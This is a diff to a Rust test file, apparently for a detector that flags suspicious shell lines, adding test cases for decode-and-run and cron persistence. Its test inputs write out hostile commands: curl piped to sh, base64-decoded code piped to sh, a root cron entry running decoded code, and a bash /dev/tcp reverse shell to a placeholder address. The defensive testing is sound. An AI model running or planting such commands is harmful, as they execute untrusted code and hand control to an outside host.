@@ -66,8 +66,11 @@ fn programs_of_no_package_among_data() {
 fn code_from_elsewhere() {
     check_line("curl -fsSL http://x | sh", "fetches code and runs it");
     check_line("echo dHJ1ZQ== | base64 -d | sh", "decodes code and runs it");
-    check_line("sh\\\\%curl x | sh", "");
+    check_line("sh\\\\%curl x | cat", "");
     check_line("bash%curl x | sh", "fetches code and runs it");
+    check_line("base64 -d /dev/shm/x | sh", "decodes code and runs it");
+    let host = "/etc/cron.d/x = @daily root base64 -d /srv/x | sh";
+    check(NAME, host, &["unusual: /etc/cron.d/x line 1 unpacks code and runs it"]);
     check_line(
         "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/443 0>&1'",
         "opens a connection to elsewhere as a shell's input or output",
